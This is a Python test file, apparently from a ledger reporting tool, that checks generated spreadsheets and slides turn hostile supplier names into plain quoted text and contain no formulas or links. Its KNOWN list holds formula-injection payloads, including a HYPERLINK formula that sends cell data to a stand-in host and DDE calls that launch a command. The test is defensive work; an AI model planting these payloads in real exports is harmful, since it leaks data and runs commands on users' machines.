"""Security item 19: no text from the ledger ever becomes a formula or a link.

Hostile names (start with = + - @ tab CR NUL, generated from a fixed seed) go into every
text field the reports show; then every file is unzipped and checked: no `<f>` element in any
sheet (no formula is allow-listed: the reports write none), openpyxl reads each such cell back
as text starting with `'`, numbers stay numbers, and the slide has no external relationship.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from datetime import date

import openpyxl
import pytest

from ledgerlink.insights import analyse_spend
from ledgerlink.insights.ongoing import ongoing_insights
from ledgerlink.insights.summary import spend_summary
from ledgerlink.reports.writers import (
    write_ongoing_insights,
    write_spend_analysis,
    write_spend_summary,
    write_vendor_match,
)
from ledgerlink.reports.writers.safety import TRIGGERS, neutralise
from tests.insights.builders import Ledger
from tests.insights.fixtures import params

KNOWN = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "=1+1\n=2+2",
    "-",
    "=",
]


def hostile_names(count: int = 60, seed: int = 19) -> list[str]:
    rng = random.Random(seed)
    alphabet = "ABCxyz019 !\"#$%&'()*+,-./:;<=>?@[]^_`{|}~\t\n" + "äé漢"
    names = list(KNOWN)
    while len(names) < count:
        tail = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
        names.append(rng.choice(TRIGGERS) + tail)
    return names


def hostile_ledger(names: list[str]) -> Ledger:
    book = Ledger(company_name=names[0])
    book.company(
        legal_name=names[1],
        base_currency="GBP",
        phone=names[2],
        website=names[3],
        addresses=[names[4]],
        registration_number=names[5],
        tax_number=names[6],
    )
    book.account("A1", names[7], type=names[8])
    for i, name in enumerate(names):
        n = names[(i + 1) % len(names)]
        sid = f"S{i}" if i % 3 else name  # some supplier ids are hostile too
        book.supplier(
            sid,
            name,
            contact_name=n,
            email=n,
            phone=n,
            address_line1=n,
            city=n,
            region=n,
            postal_code=n,
            country=n,
            tax_number=n,
            registration_number=n,
            status=n,
        )
        book.bill(
            f"B{i}",
            sid,
            "2024-11-05",
            str(100 + i),
            due="2024-12-05",
            reference=n,
            status="paid",
            currency=n[:3],
        )
        book.payment(
            f"P{i}",
            sid,
            "2024-11-10",
            str(100 + i),
            pays=[(f"B{i}", str(100 + i))],
            method_raw=n,
            account_id="A1",
            account_name=n,
            reference=name,
        )
        book.expense(
            f"E{i}",
            "",
            "2024-11-11",
            "5",
            supplier_name=name,
            method_raw=n,
            account_name=n,
            reference=n,
        )
    book.bill("CREDIT", "S1", "2024-11-06", "-40")  # a negative amount stays a number
    return book


@pytest.fixture(scope="module")
def names() -> list[str]:
    return hostile_names()


@pytest.fixture(scope="module")
def files(names) -> dict[str, bytes]:
    frames = hostile_ledger(names).frames()
    analysis = analyse_spend(frames, params(generation_date=date(2025, 1, 20)))
    out: dict[str, bytes] = {}

    def run(name: str, write, *args, **kwargs) -> None:
        buffer = io.BytesIO()
        write(*args, buffer, **kwargs)
        out[name] = buffer.getvalue()

    run("spend.xlsx", write_spend_analysis, analysis)
    for network in ("mastercard", "visa", "wex", "paytech"):
        run(f"{network}.xlsx", write_vendor_match, analysis, network)
    insights = ongoing_insights(frames, params(generation_date=date(2025, 1, 20)))
    assert insights is not None and insights.new_suppliers.height == len(names)
    run("ongoing.xlsx", write_ongoing_insights, insights)
    run("summary.pptx", write_spend_summary, spend_summary(analysis), org_name=names[9])
    return out


def test_no_formula_element_in_any_sheet(files):
    for name, data in files.items():
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            for part in package.namelist():
                if not part.endswith(".xml"):
                    continue
                xml = package.read(part).decode("utf-8")
                assert not re.search(r"<f[\s>/]", xml), f"{name}:{part} has a formula"
                assert "<hyperlink" not in xml, f"{name}:{part} has a hyperlink"


def test_hostile_text_reads_back_as_text_with_a_leading_quote(files, names):
    expected = {neutralise(n) for n in names}
    for name, data in files.items():
        if not name.endswith(".xlsx"):
            continue
        book = openpyxl.load_workbook(io.BytesIO(data))
        seen = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (name, sheet.title, cell.coordinate)
                        assert not cell.value.startswith(TRIGGERS), (name, cell.coordinate)
                        # NUL and CR are stored as _x0000_ / _x000D_ escapes; compare others.
                        if cell.value.startswith("'") and cell.value in expected:
                            seen += 1
        assert seen >= len(names) // 2, name  # the hostile names are really in there


def test_numbers_stay_numbers(files):
    book = openpyxl.load_workbook(io.BytesIO(files["spend.xlsx"]))
    sheet = book["Bills"]
    header = [c.value for c in sheet[1]]
    bill_id, total = header.index("Bill ID"), header.index("Total (GBP)")
    for row in sheet.iter_rows(min_row=2):
        if row[bill_id].value == "CREDIT":
            assert row[total].data_type == "n" and row[total].value == -40
            break
    else:
        pytest.fail("the credit bill is missing")


def test_slide_has_no_external_relationship_or_link(files, names):
    with zipfile.ZipFile(io.BytesIO(files["summary.pptx"])) as package:
        for part in package.namelist():
            if part.endswith(".rels"):
                assert 'TargetMode="External"' not in package.read(part).decode("utf-8"), part
            if part.endswith(".xml"):
                text = package.read(part).decode("utf-8")
                assert "hlinkClick" not in text and "hlinkHover" not in text, part
        slide = package.read("ppt/slides/slide1.xml").decode("utf-8")
        for part in package.namelist():
            if part.endswith(".xlsx"):  # the chart's data: fixed labels and numbers only
                embedded = zipfile.ZipFile(io.BytesIO(package.read(part)))
                for inner in embedded.namelist():
                    assert "<f>" not in embedded.read(inner).decode("utf-8", "replace")
    assert "evil.test" not in slide or "HYPERLINK" in slide  # shown as plain text if at all
